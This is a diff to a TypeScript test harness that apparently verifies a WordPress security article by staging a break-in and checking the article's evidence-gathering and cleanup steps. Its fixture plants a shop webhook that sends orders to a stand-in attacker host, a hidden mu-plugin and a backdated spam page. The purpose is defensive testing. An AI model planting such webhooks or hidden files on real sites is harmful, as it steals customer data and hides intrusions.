@@ -51,6 +51,8 @@ export const EVIDENCE_FILES: BlockRef = {
   title: "Terminal (as the administrator: the site's files as found, with their times)",
 };
 export const EVIDENCE_DATABASE: BlockRef = {article: SECURITY, title: 'Terminal (the same clean shell: the database as found)'};
+/** The dump moved by the administrator into the evidence folder: the locked account can no longer hand it on (review r63a M2). */
+export const EVIDENCE_DUMP: BlockRef = {article: SECURITY, title: 'Terminal (as the administrator: the dump into the evidence folder)'};
 /** Step 4's replacement of core by the version the site runs (review r54 MEDIUM 5). */
 export const CORE_REPLACE: BlockRef = {article: SECURITY, title: 'Terminal (the clean shell: replace core with the version the site runs)'};
 
@@ -138,6 +140,8 @@ const SHOP_KEY = {description: 'Shipping sync', permissions: 'read_write'};
 const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/orders'};
 /** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
 const SPAM_PAGE = 'Cheap watches';
+/** A spam page given an old date, which WordPress also gives it as its change date (review r63b M3). */
+const BACKDATED_PAGE = 'Cheap pills';
 /** The site's HTTP library, which WP-CLI runs before any command (WordPress before 6.2, as Debian 12's 6.1). */
 const HTTP_LIBRARY_FILE = 'wp-includes/class-requests.php';
 /** A file added to wp-includes, which a core download over the site leaves (review r54 MEDIUM 5). */
@@ -271,6 +275,7 @@ INSERT INTO wp_wc_webhooks (status, name, user_id, delivery_url, secret, topic, 
   VALUES ('active', '${SHOP_WEBHOOK.name}', 1, '${SHOP_WEBHOOK.url}', 'planted', 'order.created', 3);
 SQL
 wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SPAM_PAGE}' --post_content='<a href="https://spam.example/">watches</a>' --porcelain >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${BACKDATED_PAGE}' --post_date='2019-03-01 10:00:00' --post_content='pills' --porcelain >/dev/null
 mkdir -p wp-content/mu-plugins wp-content/uploads/2026/11
 cat > wp-content/mu-plugins/.cache.php <<'PHP'
 <?php
@@ -606,6 +611,28 @@ function checkEvidenceFiles(ctx: RecipeContext, ns: WordPressNamespace) {
   );
 }
 
+/**
+ * Step 3's move of the clean shell's dump into the evidence folder, run as root (the administrator) in the namespace with
+ * E the evidence folder and F the name the export printed: the dump must end up there, the administrator's, and not
+ * stay in the locked account's home, where the site's PHP could read it.
+ */
+function checkDumpMoved(ctx: RecipeContext, ns: WordPressNamespace, dump: string) {
+  const folder = path.join(ns.dir, 'administrator-home', 'evidence-example.step02');
+  const placeholder = /^F=\/home\/example\/before-cleanup\.XXXXXX\.sql$/m;
+  const block = ctx.block(EVIDENCE_DUMP).value;
+  if (!placeholder.test(block))
+    ctx.fail(EVIDENCE_DUMP, 'no F=/home/example/before-cleanup.XXXXXX.sql line to write the name the export printed in');
+  const moved = ns.root(`E='${folder}'\n${block.replace(placeholder, `F='${dump}'`)}`);
+  const kept = `${folder}/${path.basename(dump)}`;
+  const look = ns.root(`test -e '${dump}' && echo left; stat -c '%u %a' '${kept}' 2>&1`).stdout.trim();
+  ctx.expect(
+    moved.status === 0 && look === '0 600',
+    EVIDENCE_DUMP,
+    "the dump moves from the locked account's home into the evidence folder, the administrator's and still 600",
+    () => `the dump did not end up in ${folder} as the administrator's 600 file (${look || 'nothing'}):\n${moved.output}`,
+  );
+}
+
 /** What the two blocks that read the version print when version.php gives none, and nothing else. */
 const NO_VERSION = 'No version read: look at version.php with cat -v';
 
@@ -829,6 +856,14 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       `the query of recent changes lists the spam page "${SPAM_PAGE}" (no script in it) first, with its time`,
       () => `the checks that load WordPress did not list the spam page "${SPAM_PAGE}" first among recent changes:\n${loaded}`,
     );
+    const newestAt = recent.indexOf('ID\tpost_type\tpost_status\tpost_title\tpost_date_gmt');
+    ctx.expect(
+      newestAt >= 0 && new RegExp(`^\\d+\\tpage\\tpublish\\t${BACKDATED_PAGE}\\t2019-03-01 `).test(recent[newestAt + 1] ?? ''),
+      LOADING_CHECKS,
+      `the query of the newest posts by ID lists the spam page "${BACKDATED_PAGE}" first, which its 2019 date hides among recent changes`,
+      () =>
+        `the checks that load WordPress did not list the backdated spam page "${BACKDATED_PAGE}" first among the newest posts:\n${loaded}`,
+    );
     const pluginFinding = (file: string, message: string) =>
       new RegExp(`^${PLUGIN}\\s+${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\s+${message}$`, 'm').test(loaded);
     ctx.expect(
@@ -866,6 +901,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       () =>
         `the database export did not hold ${INTRUDER} with the events and routines in a 600 file (${dump || 'no file named'}: ${dumpLook || 'nothing'}):\n${exported}`,
     );
+    if (dump) checkDumpMoved(ctx, ns, dump);
     await expectVersionGuards(ctx, ns, shell);
     const rootMode = () => ns.root(`stat -c %a ${SITE.root}`).stdout.trim();
     const modeBefore = rootMode();
@@ -1181,6 +1217,12 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /did not list the spam page "Cheap watches" first/,
     },
     {
+      what: 'list the newest posts by date, not by ID (review r63b M3)',
+      ref: LOADING_CHECKS,
+      edit: replace('ORDER BY ID DESC', 'ORDER BY post_date_gmt DESC'),
+      expect: /did not list the backdated spam page "Cheap pills" first/,
+    },
+    {
       what: 'list modification times only (what tar keeps), not change times',
       ref: EVIDENCE_FILES,
       edit: replace("-printf '%C+ %T+ ", "-printf '%T+ %T+ "),
@@ -1203,6 +1245,12 @@ export const wordpressSecurityRecipe: Recipe = {
       ref: EVIDENCE_DATABASE,
       edit: replace(' --routines --events', ''),
       expect: /the database export did not hold wpsupport with the events and routines/,
+    },
+    {
+      what: "leave the dump in the locked account's home (review r63a M2)",
+      ref: EVIDENCE_DUMP,
+      edit: replace(/^sudo mv .*/m, ''),
+      expect: /the dump did not end up in .* as the administrator's 600 file/,
     },
     {
       what: 'drop the guard against the example folder names',
